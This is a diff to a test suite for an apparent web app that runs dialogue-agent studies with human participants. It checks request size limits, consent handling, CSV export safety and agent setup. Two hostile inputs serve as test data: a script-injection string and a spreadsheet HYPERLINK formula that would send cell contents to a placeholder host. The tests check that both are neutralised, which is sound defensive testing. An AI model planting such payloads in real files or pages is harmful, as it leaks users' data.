@@ -216,7 +216,19 @@ def test_input_limits_and_escaping(tmp_path):
     long = "x" * (MAX_MESSAGE_CHARS + 1)
     r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": long})
     assert r.status_code == 400 and f"at most {MAX_MESSAGE_CHARS}" in r.text
-    r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "x" * 20_000})
+    r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "x" * 70_000})
+    assert r.status_code == 413
+
+    def chunks():  # no Content-Length: the limit counts the bytes as they arrive
+        yield f"csrf={csrf}&seen={seen}&text=".encode()
+        for _ in range(200):
+            yield b"&" * 1000
+
+    r = client.post(
+        f"/p/{token}/chat/0",
+        content=chunks(),
+        headers={"content-type": "application/x-www-form-urlencoded"},
+    )
     assert r.status_code == 413
     assert len(store.messages(0, 0)) == 1
     evil = '<script>alert("x")</script>'
@@ -436,3 +448,123 @@ def test_behind_a_reverse_proxy_every_link_carries_the_prefix(tmp_path):
     assert r.headers["location"].startswith("/study/p/")
     consent = client.get(r.headers["location"], follow_redirects=True)
     assert re.search(r'action="/study/p/[^"]+/consent"', consent.text)
+
+
+def test_edge_cases_a_reviewer_found(tmp_path):
+    """Non-ASCII tokens, line breaks, ending an empty chat, whole-number answers."""
+    client, store = _client(tmp_path, "Counseling-v0", ("scripted",), turns=2)
+    token, csrf = _join(client)
+    assert client.post(f"/p/{token}/consent", data={"csrf": "é", "agree": "yes"}).status_code == 403
+    r = client.get("/admin", headers={"cookie": "dg_admin=\u00e9".encode()})
+    assert r.status_code == 200 and "Admin token" in r.text  # the login form, not a 500
+    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
+    r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 0, "action": "end"})
+    assert r.status_code == 400 and "at least one message" in r.text
+    assert store.ended(0) == {}
+    text = "ab\r\n" * 300  # 1,200 characters sent, 900 typed (the browser counts a break as one)
+    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 0, "text": text})
+    assert store.messages(0, 0)[0].text == ("ab\n" * 300).strip()
+    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 2, "action": "end"})
+    assert store.ended(0) == {0: "ended by participant"}
+    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 2, "text": "late"})
+    assert len(store.messages(0, 0)) == 2  # nothing is added after the end
+    form = {"csrf": csrf, "rating_empathic": "3", "rating_natural": "3", "rating_again": "3"}
+    r = client.post(f"/p/{token}/survey/0", data={**form, "outcome": "2.5"})
+    assert r.status_code == 400 and "whole number" in r.text
+
+
+def test_order_is_assigned_at_consent_and_csv_cells_are_never_formulas(tmp_path):
+    client, store = _client(tmp_path, turns=1)
+    _join(client)  # joins, never consents: uses up no row of the Latin square
+    token, csrf = _join(client)
+    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
+    assert store.participants()[1].order == order_for(0, 2)
+    assert store.participants()[0].order == []
+    for pos in range(2):
+        seen = _seen(client, token, pos)
+        client.post(f"/p/{token}/chat/{pos}", data={"csrf": csrf, "seen": seen, "text": "no"})
+        client.post(
+            f"/p/{token}/survey/{pos}",
+            data={
+                "csrf": csrf,
+                "outcome": "0",
+                "rating_persuasive": "1",
+                "rating_natural": "1",
+                "rating_again": "1",
+                "comment": '=HYPERLINK("http://x.example/?"&A1,"click")',
+            },
+        )
+    out = export_study(store, tmp_path / "exp")
+    text = (tmp_path / "exp" / "answers.csv").read_text()
+    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
+    assert out["left_out"] == 0 and out["episodes"] == 2
+
+
+def test_export_and_report_never_touch_a_file_that_is_not_a_study(tmp_path, capsys):
+    import sqlite3
+
+    other = tmp_path / "other.sqlite"
+    db = sqlite3.connect(other)
+    db.execute("CREATE TABLE t (x)")
+    db.commit()
+    db.close()
+    before = other.read_bytes()
+    junk = tmp_path / "junk.sqlite"
+    junk.write_text("not a database")
+    for path in (other, junk):
+        assert main(["study", "export", "--db", str(path), "--out", str(tmp_path / "o")]) == 2
+        assert "is not a dialogue-gym study database" in capsys.readouterr().err
+    assert other.read_bytes() == before and not (tmp_path / "other.sqlite-wal").exists()
+    code = main(
+        [
+            "study",
+            "serve",
+            "--env",
+            "Persuasion-v0",
+            "--agents",
+            "scripted,nonesuch",
+            "--db",
+            str(tmp_path / "new.sqlite"),
+        ]
+    )
+    assert code == 2 and "unknown agent 'nonesuch'" in capsys.readouterr().err
+    assert not (tmp_path / "new.sqlite").exists()  # no database tied to a bad configuration
+
+
+COUNTING_AGENT = """
+from dialogue_gym.agents.base import Agent
+
+class Counting(Agent):
+    built = 0
+
+    def __init__(self, domain):
+        type(self).built += 1
+        self.name = "counting"
+
+    def reset(self, seed=None):
+        self.turn = 0
+
+    def act(self, observation, info):
+        self.turn += 1
+        return f"turn {self.turn}"
+"""
+
+
+def test_an_agent_is_built_once_per_spec_and_keeps_memory_per_conversation(tmp_path):
+    path = tmp_path / "counting.py"
+    path.write_text(COUNTING_AGENT)
+    client, store = _client(tmp_path, agents=(f"{path}:Counting",), turns=3)
+    study = client.app.state.study
+    tokens = [_join(client) for _ in range(3)]
+    for token, csrf in tokens:
+        client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
+        client.post(
+            f"/p/{token}/chat/0", data={"csrf": csrf, "seen": _seen(client, token, 0), "text": "hi"}
+        )
+    cls = type(next(iter(study._prototypes.values())))
+    assert cls.built == 1  # three conversations, one agent built (a model would load once)
+    for p in store.participants():
+        assert [m.text for m in store.messages(p.id, 0) if m.role == "assistant"] == [
+            "turn 1",
+            "turn 2",
+        ]
